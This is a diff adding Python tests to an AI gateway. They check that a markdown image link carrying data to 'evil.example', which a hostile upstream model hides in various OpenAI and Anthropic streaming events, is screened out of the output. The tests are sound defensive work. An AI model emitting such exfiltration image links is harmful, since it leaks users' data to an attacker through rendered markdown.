@@ -303,3 +303,124 @@ def test_the_demo_answers_responses_and_messages_in_their_shapes(tmp_path: Path)
         assert DEMO_LABEL in answer
         assert "［氏名1］" in answer  # what the AI saw
         assert answer.endswith(PROMPT)  # restored
+
+
+# ---------------------------------------------------------------------- a hostile upstream
+
+EXFIL = "![図](https://evil.example/p.png?d=secret-data-0901234)"
+
+
+class _Events:
+    """An upstream that streams the given events as they are."""
+
+    def __init__(self, events: list[dict[str, Any]]) -> None:
+        self.events = events
+        self.calls: list[Any] = []
+
+    async def call(self, endpoint: str, body: Any, *, stream: bool) -> Any:
+        from hinagata.gateway._upstream import UpstreamResponse
+
+        self.calls.append((endpoint, body))
+
+        async def lines() -> Any:
+            for e in self.events:
+                yield "data: " + json.dumps(e, ensure_ascii=False)
+
+        return UpstreamResponse(200, None, lines(), None)
+
+
+def _final_text(events: list[dict[str, Any]], tmp_path: Path) -> tuple[str, str]:
+    with running_gateway(
+        tmp_path,
+        f"sqlite:///{tmp_path / 'h.db'}",
+        recorder=_Events(events),  # type: ignore[arg-type]
+    ) as gw:
+        raw = httpx.post(
+            gw.base_url + "/v1/responses",
+            headers={"authorization": f"Bearer {gw.key()}"},
+            json={"model": "wg", "input": "要約して", "stream": True},
+        ).text
+        with _openai(gw).responses.stream(model="wg", input="要約して") as s:
+            final = s.get_final_response().output_text
+    return raw, final
+
+
+def _response(output: list[dict[str, Any]]) -> dict[str, Any]:
+    return {"id": "resp_h", "object": "response", "created_at": 1, "status": "completed",
+            "model": "up", "output": output, "tools": [], "parallel_tool_calls": True,
+            "tool_choice": "auto"}  # fmt: skip
+
+
+def _message(text: str) -> dict[str, Any]:
+    return {"id": "m1", "type": "message", "role": "assistant", "status": "completed",
+            "content": [{"type": "output_text", "text": text, "annotations": []}]}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "where",
+    ["only-in-completed", "in-item-added", "in-part-added", "completed-differs"],
+)
+def test_text_an_upstream_hides_outside_the_deltas_is_screened(tmp_path: Path, where: str) -> None:
+    """Whatever event carries the model's text, it is restored and screened like the
+    deltas: an exfiltration image is removed wherever the upstream put it."""
+    start = {**_response([]), "status": "in_progress"}
+    created = [{"type": "response.created", "response": start}]
+    text = "要約です。" + EXFIL
+    ids = {"item_id": "m1", "output_index": 0, "content_index": 0}
+    if where == "only-in-completed":
+        events = [*created, {"type": "response.completed", "response": _response([_message(text)])}]
+    elif where == "in-item-added":
+        events = [
+            *created,
+            {"type": "response.output_item.added", "output_index": 0, "item": _message(text)},
+            {"type": "response.output_item.done", "output_index": 0, "item": _message(text)},
+            {"type": "response.completed", "response": _response([_message(text)])},
+        ]
+    elif where == "in-part-added":
+        part = {"type": "output_text", "text": text, "annotations": []}
+        events = [
+            *created,
+            {"type": "response.output_item.added", "output_index": 0, "item": _message("")},
+            {"type": "response.content_part.added", **ids, "part": part},
+            {"type": "response.content_part.done", **ids, "part": part},
+            {"type": "response.completed", "response": _response([_message(text)])},
+        ]
+    else:
+        events = [
+            *created,
+            {"type": "response.output_item.added", "output_index": 0, "item": _message("")},
+            {"type": "response.output_text.delta", **ids, "delta": "要約です。"},
+            {"type": "response.output_text.done", **ids, "text": "要約です。"},
+            {"type": "response.completed", "response": _response([_message(text)])},
+        ]
+    raw, final = _final_text(events, tmp_path)
+    assert "evil.example" not in raw and "evil.example" not in final
+    assert final.startswith("要約です。")
+
+
+def test_text_in_an_anthropic_block_start_is_screened(tmp_path: Path) -> None:
+    message = {"id": "msg_h", "type": "message", "role": "assistant", "model": "up",
+               "content": [{"type": "text", "text": EXFIL}], "stop_reason": None,
+               "usage": {"input_tokens": 1, "output_tokens": 1}}  # fmt: skip
+    events = [
+        {"type": "message_start", "message": message},
+        {"type": "content_block_start", "index": 0,
+         "content_block": {"type": "text", "text": "要約です。" + EXFIL}},
+        {"type": "content_block_stop", "index": 0},
+        {"type": "message_delta", "delta": {"stop_reason": "end_turn"},
+         "usage": {"output_tokens": 3}},
+        {"type": "message_stop"},
+    ]  # fmt: skip
+    with (
+        running_gateway(
+            tmp_path,
+            f"sqlite:///{tmp_path / 'h.db'}",
+            recorder=_Events(events),  # type: ignore[arg-type]
+        ) as gw,
+        _anthropic(gw).messages.stream(
+            model="wg", max_tokens=64, messages=[{"role": "user", "content": "要約して"}]
+        ) as s,
+    ):
+        final = s.get_final_message()
+    text = "".join(b.text for b in final.content if b.type == "text")
+    assert "evil.example" not in text and text.startswith("要約です。")
